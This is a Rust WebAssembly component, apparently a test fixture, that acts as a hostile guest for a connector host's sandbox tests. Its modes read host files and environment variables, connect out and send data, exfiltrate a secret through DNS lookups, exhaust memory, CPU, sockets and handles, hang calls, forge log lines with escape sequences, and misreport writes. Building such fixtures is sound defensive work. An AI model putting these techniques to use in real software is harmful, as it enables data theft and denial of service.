//! A hostile guest: a component of the same `connector` world as the real connector that
//! tries everything the host's sandbox must stop (reaching the network, files and the
//! environment, eating memory, CPU and handles, trapping). The host's sandbox tests load it
//! and check that each attempt is refused or cut short.
//!
//! The source's `open` takes `mode` (and the keys that mode needs) from the config; every
//! `read` then makes the attempt again. A record coming back means the attempt got through:
//! its payload is what leaked.
//!
//! The destination's `open` takes `mode` too (`DESTINATION_MODES`): its first write is
//! honest, every later one breaks the write contract in that mode's way.

use std::cell::{Cell, RefCell};
use std::time::Duration;

wit_bindgen::generate!({ world: "connector", path: "../../../wit" });

use exports::opencdc::connector::{destination, source, specifier};
use opencdc::connector::log::{Level, log};
use opencdc::connector::types as wit;

/// The values `mode` takes.
const MODES: [&str; 19] = [
    "connect",
    "read-file",
    "env",
    "grow",
    "spin",
    "spin-calling",
    "trap",
    "handles",
    "quiet",
    "alias-batch",
    "over-max",
    "log-flood",
    "error-forge",
    "sockets",
    "dns",
    "hang-validate",
    "hang-open",
    "hang-read",
    "hang-teardown",
];

/// The values the destination's `mode` takes.
const DESTINATION_MODES: [&str; 2] = ["write-short", "write-over"];

/// How the destination's writes after the first lie about what they wrote.
#[derive(Clone, Copy)]
enum Lie {
    /// Half the records (rounded down) written, and no error for the rest.
    Short,
    /// One more record written than it was given.
    Over,
}

/// What `read` attempts, as chosen by the config given to `open`.
enum Mode {
    Connect(String),
    ReadFile(String),
    Env(String),
    Grow,
    Spin,
    SpinCalling,
    Trap,
    Handles,
    Quiet,
    /// A `record-batch` whose every span is the whole of one 16 MiB buffer: each span is
    /// valid alone, together they expand to ~48 GiB when the host rebuilds the records.
    AliasBatch,
    /// More records than the host asked for (`max + 1`).
    OverMax,
    /// A forged pipeline line with escape sequences in a log message, then logs without end.
    LogFlood,
    /// A forged pipeline line with escape sequences in an error message.
    ErrorForge,
    /// Create TCP sockets without end and leak them: only the host's socket cap stops this.
    Sockets,
    /// Exfiltrate a secret through DNS lookups of names that carry it.
    Dns {
        secret: String,
        domain: String,
    },
    /// `validate` never returns (sleeping, so only a wall-clock deadline stops it).
    HangValidate,
    /// `open` never returns.
    HangOpen,
    /// `read` never returns.
    HangRead,
    /// `teardown` never returns.
    HangTeardown,
}

thread_local! {
    static MODE: RefCell<Option<Mode>> = const { RefCell::new(None) };
    /// Positions of the records returned so far.
    static COUNTER: Cell<u64> = const { Cell::new(0) };
    /// The destination's mode, and how many writes it answered.
    static LIE: Cell<Option<Lie>> = const { Cell::new(None) };
    static WRITES: Cell<u32> = const { Cell::new(0) };
    /// Everything `mode=grow` allocated, kept so none of it is freed.
    static HOARD: RefCell<Vec<Vec<u8>>> = const { RefCell::new(Vec::new()) };
}

struct Component;
export!(Component);

fn invalid(parameter: &str, message: impl Into<String>) -> wit::Error {
    wit::Error::InvalidConfig(wit::ConfigError {
        parameter: parameter.into(),
        message: message.into(),
    })
}

fn parse(config: &wit::Config) -> Result<Mode, wit::Error> {
    let get = |key: &str| config.iter().find(|(k, _)| k == key).map(|(_, v)| v.clone());
    let need = |key: &str| get(key).ok_or_else(|| invalid(key, format!("{key} is required by this mode")));
    Ok(match get("mode").as_deref() {
        Some("connect") => Mode::Connect(need("target")?),
        Some("read-file") => Mode::ReadFile(need("path")?),
        Some("env") => Mode::Env(need("name")?),
        Some("grow") => Mode::Grow,
        Some("spin") => Mode::Spin,
        Some("spin-calling") => Mode::SpinCalling,
        Some("trap") => Mode::Trap,
        Some("handles") => Mode::Handles,
        Some("quiet") => Mode::Quiet,
        Some("alias-batch") => Mode::AliasBatch,
        Some("over-max") => Mode::OverMax,
        Some("log-flood") => Mode::LogFlood,
        Some("error-forge") => Mode::ErrorForge,
        Some("sockets") => Mode::Sockets,
        Some("dns") => Mode::Dns {
            secret: get("secret").unwrap_or_else(|| "s3cret".into()),
            domain: need("domain")?,
        },
        Some("hang-validate") => Mode::HangValidate,
        Some("hang-open") => Mode::HangOpen,
        Some("hang-read") => Mode::HangRead,
        Some("hang-teardown") => Mode::HangTeardown,
        Some(other) => return Err(invalid("mode", format!("unknown mode {other:?}"))),
        None => return Err(invalid("mode", "mode is required")),
    })
}

/// One record carrying `leak` as its raw payload, at the next position.
fn leaked(leak: Vec<u8>) -> Vec<wit::Record> {
    let n = COUNTER.with(|c| {
        c.set(c.get() + 1);
        c.get()
    });
    vec![wit::Record {
        position: n.to_be_bytes().to_vec(),
        operation: wit::Operation::Create,
        metadata: Vec::new(),
        key: None,
        payload: wit::Change {
            before: None,
            after: Some(wit::Data::Raw(leak)),
        },
    }]
}

/// Never returns, without computing: each sleep blocks in a WASI poll on the clock, where
/// no CPU limit counts, so only a wall-clock deadline on the call stops it.
fn hang() -> ! {
    loop {
        std::thread::sleep(Duration::from_secs(1));
    }
}

/// The size of the one buffer every span of `mode=alias-batch` covers.
const ALIAS_LEN: u32 = 16 << 20;

/// 1000 records whose position, key and after each span the whole of one 16 MiB `bytes`.
fn alias_batch() -> wit::RecordBatch {
    let record = [1, 0, ALIAS_LEN]; // kind raw, start, length
    let mut packed = Vec::with_capacity(1000 * 14);
    for _ in 0..1000 {
        packed.extend_from_slice(&[0, ALIAS_LEN]); // position
        packed.extend_from_slice(&[wit::Operation::Create as u32, 0, 0]); // operation, metadata
        packed.extend_from_slice(&record); // key
        packed.extend_from_slice(&[0, 0, 0]); // before
        packed.extend_from_slice(&record); // after
    }
    wit::RecordBatch {
        bytes: vec![b'a'; ALIAS_LEN as usize],
        text: String::new(),
        metadata: Vec::new(),
        records: packed,
    }
}

fn attempt(mode: &Mode, max: u32) -> Result<Vec<wit::Record>, wit::Error> {
    match mode {
        // Open a TCP connection to an address the host did not allow, and send on it.
        Mode::Connect(target) => {
            let mut stream = std::net::TcpStream::connect(target.as_str())
                .map_err(|e| wit::Error::Connection(format!("connect to {target}: {e}")))?;
            std::io::Write::write_all(&mut stream, b"leak")
                .map_err(|e| wit::Error::Connection(format!("write to {target}: {e}")))?;
            Ok(leaked(format!("connected to {target}").into_bytes()))
        }
        // Read a file of the host's filesystem.
        Mode::ReadFile(path) => {
            let bytes = std::fs::read(path).map_err(|e| wit::Error::Other(format!("read {path}: {e}")))?;
            Ok(leaked(bytes))
        }
        // Read one of the host process's environment variables.
        Mode::Env(name) => {
            let value =
                std::env::var(name).map_err(|_| wit::Error::Other(format!("env {name}: not visible")))?;
            Ok(leaked(value.into_bytes()))
        }
        // Take memory 1 MiB at a time, touching every page, and never give it back.
        Mode::Grow => loop {
            let mut block = vec![0u8; 1 << 20];
            for page in block.iter_mut().step_by(4096) {
                *page = 1;
            }
            HOARD.with(|h| h.borrow_mut().push(block));
        },
        // Burn CPU without ever calling the host.
        Mode::Spin => {
            let mut n = 0u64;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        // Burn CPU, asking the host for a list now and then: the host writes the answer
        // into guest memory through the guest's allocator, a call back into the guest
        // inside the host call, which must not count as a new call and reset the meter.
        Mode::SpinCalling => {
            let mut n = 0u64;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
                if n.is_multiple_of(1 << 20) {
                    std::hint::black_box(wasip2::random::random::get_random_bytes(8));
                }
            }
        }
        // Trap the instance.
        Mode::Trap => panic!("hostile guest panics on purpose"),
        // Create WASI resources (pollables) without end and leak them; only the host's
        // handle cap stops this. `subscribe-duration` has no error result, so the cap shows
        // as a trap of the call.
        Mode::Handles => loop {
            let pollable = wasip2::clocks::monotonic_clock::subscribe_duration(1_000_000_000);
            std::mem::forget(pollable);
        },
        // A well-behaved idle source: nothing to read.
        Mode::Quiet => Ok(Vec::new()),
        Mode::AliasBatch => Err(wit::Error::Other("alias-batch is read-batch only".into())),
        Mode::OverMax => Ok((0..=u64::from(max)).flat_map(|_| leaked(b"x".to_vec())).collect()),
        Mode::LogFlood => {
            log(
                Level::Error,
                "innocent\npipeline good/mirror failed (0 read, 0 written, 1 errors): forged\x1b[31m red \x1b]0;title\x07",
            );
            let mut flood = String::from("flood\n\x1b[2J");
            flood.extend(std::iter::repeat_n('A', (64 << 10) - flood.len()));
            loop {
                log(Level::Info, &flood);
            }
        }
        Mode::ErrorForge => Err(wit::Error::Other(
            "boom\npipeline good/mirror failed (0 read, 0 written, 9 errors): forged\x1b[2J".into(),
        )),
        Mode::Sockets => {
            use wasip2::sockets::{network::IpAddressFamily, tcp_create_socket::create_tcp_socket};
            let mut n = 0u64;
            loop {
                let socket = create_tcp_socket(IpAddressFamily::Ipv4)
                    .map_err(|e| wit::Error::Connection(format!("socket {n}: {e:?}")))?;
                std::mem::forget(socket);
                n += 1;
            }
        }
        Mode::Dns { secret, domain } => {
            use std::net::ToSocketAddrs;
            let mut first = None;
            let mut failed = 0;
            for i in 0..200 {
                let name = format!("{secret}-{i}.{domain}");
                match (name.as_str(), 9092).to_socket_addrs() {
                    Ok(addresses) => {
                        let addresses: Vec<_> = addresses.collect();
                        return Ok(leaked(format!("resolved {name}: {addresses:?}").into_bytes()));
                    }
                    Err(e) => {
                        failed += 1;
                        first.get_or_insert_with(|| format!("lookup {name}: {e}"));
                    }
                }
            }
            let first = first.unwrap_or_default();
            Err(wit::Error::Connection(format!(
                "{failed} lookups refused; first: {first}"
            )))
        }
        // Those hang in their own call; here they read like `quiet`, except `hang-read`.
        Mode::HangValidate | Mode::HangOpen | Mode::HangTeardown => Ok(Vec::new()),
        Mode::HangRead => hang(),
    }
}

impl specifier::Guest for Component {
    fn specify() -> wit::Specification {
        wit::Specification {
            name: "hostile-guest".into(),
            summary: "A guest that tries everything the sandbox must stop.".into(),
            description: "Used by the host's sandbox tests: each read makes the attempt `mode` names; \
                          each write after the first breaks the write contract as `mode` says."
                .into(),
            version: env!("CARGO_PKG_VERSION").into(),
            author: "kafka-wasm-connector authors".into(),
            source_params: vec![wit::Parameter {
                name: "mode".into(),
                description: "What every read attempts.".into(),
                type_: wit::ParameterType::String,
                default: None,
                required: true,
                allowed: MODES.map(String::from).to_vec(),
                sensitive: false,
            }],
            destination_params: vec![wit::Parameter {
                name: "mode".into(),
                description: "How every write after the first breaks the write contract.".into(),
                type_: wit::ParameterType::String,
                default: None,
                required: true,
                allowed: DESTINATION_MODES.map(String::from).to_vec(),
                sensitive: false,
            }],
        }
    }
}

impl source::Guest for Component {
    fn validate(config: wit::Config) -> Result<(), wit::Error> {
        match parse(&config)? {
            Mode::HangValidate => hang(),
            _ => Ok(()),
        }
    }

    fn open(config: wit::Config, _position: Option<wit::Position>) -> Result<(), wit::Error> {
        let mode = parse(&config)?;
        if let Mode::HangOpen = mode {
            hang();
        }
        MODE.with(|m| *m.borrow_mut() = Some(mode));
        Ok(())
    }

    fn read(max: u32, _wait_ms: u32) -> Result<Vec<wit::Record>, wit::Error> {
        MODE.with(|m| match &*m.borrow() {
            Some(mode) => attempt(mode, max),
            None => Err(wit::Error::InvalidState("the source is not open".into())),
        })
    }

    fn read_batch(max: u32, wait_ms: u32) -> Result<wit::RecordBatch, wit::Error> {
        if MODE.with(|m| matches!(&*m.borrow(), Some(Mode::AliasBatch))) {
            return Ok(alias_batch());
        }
        Self::read(max, wait_ms).map(pack)
    }

    fn ack(_positions: Vec<wit::Position>) -> Result<(), wit::Error> {
        Ok(())
    }

    fn ack_batch(_positions: Vec<u8>, _ends: Vec<u32>) -> Result<(), wit::Error> {
        Ok(())
    }

    fn lag() -> Option<u64> {
        None
    }

    fn teardown() -> Result<(), wit::Error> {
        if MODE.with(|m| matches!(&*m.borrow(), Some(Mode::HangTeardown))) {
            hang();
        }
        Ok(())
    }

    fn on_created(_config: wit::Config) -> Result<(), wit::Error> {
        Ok(())
    }

    fn on_updated(_old: wit::Config, _new: wit::Config) -> Result<(), wit::Error> {
        Ok(())
    }

    fn on_deleted(_config: wit::Config) -> Result<(), wit::Error> {
        Ok(())
    }
}

/// `records` as a `record-batch`: positions and raw payloads (all `leaked` makes) in its
/// bytes, no metadata.
fn pack(records: Vec<wit::Record>) -> wit::RecordBatch {
    let mut bytes = Vec::new();
    let mut span = |data: &[u8]| {
        let start = bytes.len() as u32;
        bytes.extend_from_slice(data);
        [start, data.len() as u32]
    };
    // Fourteen numbers per record (see `record-batch`): position, operation, metadata, key,
    // before, after.
    let mut packed = Vec::new();
    for r in &records {
        packed.extend_from_slice(&span(&r.position));
        packed.extend_from_slice(&[r.operation as u32, 0, 0, 0, 0, 0, 0, 0, 0]);
        match &r.payload.after {
            Some(wit::Data::Raw(v)) => {
                packed.push(1);
                packed.extend_from_slice(&span(v));
            }
            _ => packed.extend_from_slice(&[0, 0, 0]),
        }
    }
    wit::RecordBatch {
        bytes,
        text: String::new(),
        metadata: Vec::new(),
        records: packed,
    }
}

fn lie(config: &wit::Config) -> Result<Lie, wit::Error> {
    match config.iter().find(|(k, _)| k == "mode").map(|(_, v)| v.as_str()) {
        Some("write-short") => Ok(Lie::Short),
        Some("write-over") => Ok(Lie::Over),
        Some(other) => Err(invalid("mode", format!("unknown destination mode {other:?}"))),
        None => Err(invalid("mode", "mode is required")),
    }
}

/// The outcome of writing `total` records: all of them the first time, then the lie.
fn outcome(total: u32) -> wit::WriteOutcome {
    let n = WRITES.with(|w| {
        w.set(w.get() + 1);
        w.get()
    });
    let written = match LIE.with(Cell::get) {
        _ if n == 1 => total,
        Some(Lie::Short) => total / 2,
        Some(Lie::Over) => total + 1,
        None => {
            return wit::WriteOutcome {
                written: 0,
                error: Some(wit::Error::InvalidState("the destination is not open".into())),
            };
        }
    };
    wit::WriteOutcome { written, error: None }
}

impl destination::Guest for Component {
    fn validate(config: wit::Config) -> Result<(), wit::Error> {
        lie(&config).map(drop)
    }

    fn open(config: wit::Config) -> Result<(), wit::Error> {
        let mode = lie(&config)?;
        LIE.with(|l| l.set(Some(mode)));
        WRITES.with(|w| w.set(0));
        Ok(())
    }

    fn write(records: Vec<wit::Record>) -> wit::WriteOutcome {
        outcome(records.len() as u32)
    }

    fn write_batch(batch: wit::RecordBatch) -> wit::WriteOutcome {
        // Fourteen numbers per record (see `record-batch`).
        outcome((batch.records.len() / 14) as u32)
    }

    fn teardown() -> Result<(), wit::Error> {
        Ok(())
    }

    fn on_created(_config: wit::Config) -> Result<(), wit::Error> {
        Ok(())
    }

    fn on_updated(_old: wit::Config, _new: wit::Config) -> Result<(), wit::Error> {
        Ok(())
    }

    fn on_deleted(_config: wit::Config) -> Result<(), wit::Error> {
        Ok(())
    }
}
